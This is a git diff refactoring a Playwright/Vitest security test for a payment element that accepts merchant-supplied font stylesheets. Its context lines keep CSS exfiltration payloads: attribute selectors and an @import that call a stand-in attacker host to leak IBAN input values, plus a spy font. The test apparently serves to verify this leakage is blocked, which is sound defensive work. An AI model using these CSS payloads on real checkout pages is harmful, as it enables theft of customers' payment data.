@@ -1,13 +1,10 @@
-import { readdirSync, readFileSync } from 'node:fs';
-import { createRequire } from 'node:module';
-import path from 'node:path';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
-import type Stripe from 'stripe';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { launchBrowser, newPage } from './fixtures/browser.js';
-import { type MerchantPage, startMerchantPage } from './fixtures/merchant-page.js';
+import { type MerchantPage, mountOnMerchantPage, startMerchantPage } from './fixtures/merchant-page.js';
 import { screenshot } from './fixtures/screenshots.js';
 import { type Stack, startStack } from './fixtures/stack.js';
+import { testFont } from './fixtures/test-font.js';
 import { PaymentElementModel } from './models/payment-element.js';
 
 /** The attacker's host; the browser context answers for it (nothing leaves the machine). */
@@ -29,15 +26,6 @@ input[value*="DE89"] { background-image: url(${ATTACKER}/leak/iban-DE89); }
 @import url(${ATTACKER}/leak/import.css);
 input { font-family: 'Spy', 'Shop Sans', sans-serif !important; }
 `;
-
-/** A real TrueType font from a package already installed (playwright-core's icon font). */
-function testFont(): Buffer {
-  const root = path.dirname(createRequire(import.meta.url).resolve('playwright-core/package.json'));
-  const dir = path.join(root, 'lib/vite/traceViewer');
-  const file = readdirSync(dir).find((name) => /^codicon.*\.ttf$/.test(name));
-  if (!file) throw new Error('no test font found in playwright-core');
-  return readFileSync(path.join(dir, file));
-}
 
 /** Serves the attacker's host in this browser context and records every request it gets. */
 async function attackerHost(context: BrowserContext): Promise<string[]> {
@@ -83,23 +71,12 @@ describe('a hostile merchant stylesheet given as fonts[].cssSrc', () => {
   afterEach(async () => page?.context().close());
 
   async function mount(types: string[]) {
-    const params = { amount: 2400, currency: 'eur', payment_method_types: types };
-    const intent = await stack.stripe.paymentIntents.create(params as Stripe.PaymentIntentCreateParams);
-    await page.goto(merchant.url);
-    await page.evaluate(
-      ([key, options]) => {
-        (window as unknown as { publishableKey: string }).publishableKey = key as string;
-        (window as unknown as { mountPayment(o: unknown): void }).mountPayment(options);
-      },
-      [
-        stack.server.keys.testPublishable,
-        {
-          clientSecret: intent.client_secret,
-          fonts: [{ cssSrc: `${ATTACKER}/evil.css` }],
-          appearance: { variables: { fontFamily: '"Shop Sans", sans-serif' } },
-        },
-      ] as const,
-    );
+    const server = { stripe: stack.stripe, publishableKey: stack.server.keys.testPublishable };
+    const options = {
+      fonts: [{ cssSrc: `${ATTACKER}/evil.css` }],
+      appearance: { variables: { fontFamily: '"Shop Sans", sans-serif' } },
+    };
+    const intent = await mountOnMerchantPage(page, merchant, server, options, types);
     await element.ready();
     return intent;
   }
